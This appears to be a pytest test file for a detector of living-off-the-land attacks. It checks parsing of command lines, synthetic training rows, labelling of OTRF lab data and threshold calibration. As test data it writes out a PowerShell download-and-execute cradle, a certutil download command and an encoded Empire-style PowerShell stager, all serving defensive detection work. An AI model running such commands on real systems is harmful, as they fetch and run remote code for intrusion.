"""The training recipe's options: synthetic catalogue rows, Atomic test artefacts, hard benign validation rows."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from nightjar.detectors.lotl import benign as B
from nightjar.detectors.lotl import data as D
from nightjar.detectors.lotl import synthetic as S
from nightjar.detectors.lotl import training as T
from nightjar.errors import ConfigError

KNOWN = {"reg.exe": "C:\\Windows\\System32\\", "rundll32.exe": "C:\\Windows\\System32\\", "certutil.exe": "C:\\Windows\\System32\\"}


@pytest.mark.parametrize(("line", "expected"), [
    ("reg add HKCU\\Software\\X /f", ("reg.exe", "C:\\Windows\\System32\\reg.exe")),
    ('"C:\\Tools\\tool.exe" -a', ("tool.exe", "C:\\Tools\\tool.exe")),
    ("echo hello > out.txt", None),  # cmd built-in
    ("$x = Get-Item HKCU:\\Software", None),  # PowerShell variable
    ("Get-Process", None),  # cmdlet
    ("iex (New-Object Net.WebClient).DownloadString('http://x/a')", None),  # a word that names no known binary
    ("script.vbs", None),  # opened through its handler
])
def test_program_a_line_starts(line: str, expected: tuple[str, str] | None) -> None:
    assert S._program(line, KNOWN) == expected


def test_lolbas_placeholders_are_filled_with_neutral_values() -> None:
    cmd = "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}"
    assert S._fill(cmd, key=2) == "certutil.exe -urlcache -f https://198.51.100.7/file.exe file.exe"
    assert S._fill(cmd, key=1) == "certutil.exe -urlcache -f https://198.51.100.7/file.exe C:\\ProgramData\\file.exe"
    assert S.PLACEHOLDER.search(S._fill("rundll32.exe {PATH_ABSOLUTE:.dll},Entry {GUID}", key=2)) is None


def test_synthetic_rows_of_held_out_techniques_are_left_out() -> None:
    rows = pd.DataFrame({"technique": ["T1105", "T1218.011", "T1003.001"], "label": [True] * 3})
    kept = S.for_training(rows, {"T1218.011"})
    assert kept["technique"].tolist() == ["T1105", "T1003.001"]


def test_training_frame_weights_and_labels_synthetic_rows() -> None:
    atomic = pd.DataFrame({"label": [True, False], "test_dir": ["t1", "t1"]})
    admin = B.admin_events(B.ADMIN_TRAIN[:2])
    synth = pd.DataFrame({"label": [True], "test_dir": ["art:x"]})
    _, y, groups, weights = T.training_frame(atomic, admin, synth, synthetic_weight=0.5)
    assert y.tolist() == [True, False, False, False, True]
    assert weights.tolist() == [1.0, 1.0, T.ADMIN_WEIGHT, T.ADMIN_WEIGHT, 0.5]
    assert groups[-1] == "art:x"


def test_default_recipe_is_the_shipped_one() -> None:
    assert T.RECIPE == T.Recipe(synthetic=(), synthetic_weight=1.0, admin_more=False, admin_validation=False, artefacts="keep")
    assert T.admin_train() == B.ADMIN_TRAIN
    val = pd.DataFrame({"label": [False]})
    assert T.validation_frame(val) is val
    assert len(T.validation_frame(val, T.Recipe(admin_validation=True))) == 1 + len(B.ADMIN_VALIDATION)


def test_admin_sets_share_no_command() -> None:
    sets = [B.ADMIN_TRAIN + B.ADMIN_TRAIN_MORE, B.ADMIN_HOLDOUT, B.ADMIN_VALIDATION]
    commands = [{c for _, _, c in s} for s in sets]
    assert not commands[0] & commands[1] and not commands[0] & commands[2] and not commands[1] & commands[2]


def test_test_artefacts_marks_psexec_service_children_and_art_markers() -> None:
    events = pd.DataFrame({
        "process.name": ["PSEXESVC.exe", "cmd.exe", "whoami.exe", "svchost.exe", "powershell.exe"],
        "process.command_line": ["C:\\Windows\\PSEXESVC.exe", '"cmd"', "whoami", "svchost.exe -k netsvcs",
                                 "powershell -c \"write-host 'T1543.003 Test'\""],
        "process.executable": ["C:\\Windows\\PSEXESVC.exe", "", "", "C:\\Windows\\System32\\svchost.exe", ""],
        "process.parent.executable": ["", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\System32\\cmd.exe", "", ""],
        "process.entity_id": ["a", "b", "c", "d", "e"],
        "process.parent.entity_id": ["", "a", "b", "", ""],
    })
    assert D.test_artefacts(events).tolist() == [True, True, True, False, True]


def test_load_atomic_rejects_an_unknown_artefacts_mode(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="'artefacts' parameter of load_atomic"):
        D.load_atomic(tmp_path, artefacts="ignore")


def test_catalogue_rows_from_the_shared_data(shared_data: Path) -> None:
    from nightjar.detectors.lotl.attack import Knowledge

    known = S.known_programs(Knowledge.from_catalogues(shared_data).locations)
    rows = S.catalogue_events(shared_data, known)
    assert rows["label"].all() and (rows["technique"] != "").all()
    assert set(rows["test_dir"].str.split(":").str[0]) == {"art", "lolbas"}
    assert rows["process.name"].str.endswith(".exe").all()
    assert not rows["process.command_line"].str.contains("PathToAtomicsFolder|#\\{", regex=True).any()
    assert np.isin(["cmd.exe", "powershell.exe", "reg.exe", "rundll32.exe"], rows["process.name"]).all()


def _otrf_events() -> pd.DataFrame:
    return pd.DataFrame({
        "dataset": ["a", "a", "b", "c", "d"],
        "host.name": ["WS5.theshire.local", "dc.theshire.local", "mkt01.pandalab.com", "PEDRO01", "PEDRO-COMPUTER"],
        "@timestamp": pd.to_datetime(["2020-09-01", "2020-09-01", "2023-08-01", "2022-08-03", "2022-08-18"], utc=True),
    })


def test_otrf_lab_is_the_host_domain_else_the_capture_year() -> None:
    assert D.otrf_lab(_otrf_events()).tolist() == ["theshire.local", "theshire.local", "pandalab.com", "2022-standalone", "2022-standalone"]


def test_label_otrf_seeds_a_shell_that_starts_a_powershell_stager() -> None:
    """Empire's `cmd /C start /b powershell -enc` launcher run as SYSTEM by a service is attack; a plain SYSTEM shell is not."""
    stager = "C:\\windows\\system32\\cmd.exe /C start /b C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell -noP -sta -w 1 -enc SQBmAA"
    df = pd.DataFrame({
        "dataset": ["x", "x", "x"], "host.name": ["h", "h", "h"],
        "user.name": ["NT AUTHORITY\\SYSTEM"] * 3,
        "process.name": ["cmd.exe", "cmd.exe", "powershell.exe"],
        "process.command_line": [stager, "cmd /c echo hello", "powershell -noP -sta -w 1 -enc SQBmAA"],
        "process.executable": ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"],
        "process.parent.name": ["services.exe", "services.exe", "cmd.exe"],
        "process.parent.executable": ["C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\cmd.exe"],
        "process.entity_id": ["1", "2", "3"], "process.parent.entity_id": ["0", "0", "1"],
        "process.pid": ["10", "11", "12"], "process.parent.pid": ["5", "5", "10"],
    })
    assert D.label_otrf(df).tolist() == [True, False, True]


def test_training_frame_adds_otrf_rows_grouped_by_dataset() -> None:
    atomic = pd.DataFrame({"label": [True], "test_dir": ["t1"]})
    otrf = pd.DataFrame({"label": [False, True], "dataset": ["atomic/x", "atomic/y"]})
    _, y, groups, weights = T.training_frame(atomic, B.admin_events([]), otrf=otrf)
    assert y.tolist() == [True, False, True]
    assert groups.tolist() == ["t1", "otrf:atomic/x", "otrf:atomic/y"]
    assert weights.tolist() == [1.0, T.OTRF_WEIGHT, T.OTRF_WEIGHT]


class _Const:
    """A stand-in detector whose score is the number of OTRF rows it was fitted on."""

    def __init__(self, rows: int) -> None:
        self.rows = rows

    def model_scores(self, events: pd.DataFrame) -> np.ndarray:
        return np.full(len(events), float(self.rows))


def test_out_of_lab_scores_never_judge_a_lab_with_a_model_that_saw_it() -> None:
    seen: list[set[str]] = []

    def fit(rows: pd.DataFrame) -> _Const:
        seen.append(set(rows["dataset"]))
        return _Const(len(rows))

    otrf = pd.DataFrame({"dataset": ["a", "a", "b", "c"]})
    labs = np.array(["L1", "L1", "L2", "L3"], dtype=object)
    scores = T.out_of_lab_scores(fit, otrf, labs)
    assert seen == [{"b", "c"}, {"a", "c"}, {"a", "b"}]
    assert scores.tolist() == [2.0, 2.0, 3.0, 3.0]


def test_calibrate_sets_the_threshold_on_the_pooled_benign_sources() -> None:
    from nightjar.detectors.lotl import LotlDetector

    det = LotlDetector(target_fpr=0.25)
    det.calibrate({"atomic": np.array([0.1, 0.2, 0.3, 0.4]), "otrf": np.array([0.5, 0.6, 0.7, 0.9])})
    assert 0.6 < det.threshold_ <= 0.7  # 2 of 8 benign scores (0.7, 0.9) may reach it
    assert det.validation_["benign_events"] == 8 and det.validation_["fpr"] <= 0.25
    assert "atomic (4)" in det.validation_["source"] and "otrf (4)" in det.validation_["source"]


def test_leave_lab_out_scores_each_lab_with_a_fold_threshold() -> None:
    """Every OTRF event gets a score and the threshold of the fold that held its lab out."""
    from nightjar.detectors.lotl.evaluation import leave_lab_out

    from .conftest import BENIGN, MALICIOUS, events, knowledge

    rows = (BENIGN + MALICIOUS) * 4
    atomic = events(rows).assign(label=[r in MALICIOUS for r in rows], technique=[f"T{1000 + i % 9}" for i in range(len(rows))],
                                 test_dir=[f"t{i % 12}" for i in range(len(rows))])
    otrf = pd.concat([events(BENIGN + MALICIOUS, host=h, start=100 * k).assign(dataset=f"d{k}", label=[False] * len(BENIGN) + [True] * len(MALICIOUS))
                      for k, h in enumerate(["ws1.lab-a.local", "ws2.lab-b.local", "ws3.lab-c.local"])], ignore_index=True)
    res = leave_lab_out(atomic, otrf, knowledge(), num_threads=1, log=lambda _: None, n_trees=5, min_groups=1)
    assert sorted(set(res.lab)) == ["lab-a.local", "lab-b.local", "lab-c.local"]
    assert np.isfinite(res.score).all() and np.isfinite(res.score_rarity).all()
    for lab in set(res.lab):
        assert len(set(res.threshold[res.lab == lab])) == 1
    assert res.alerts().shape == (len(otrf),)
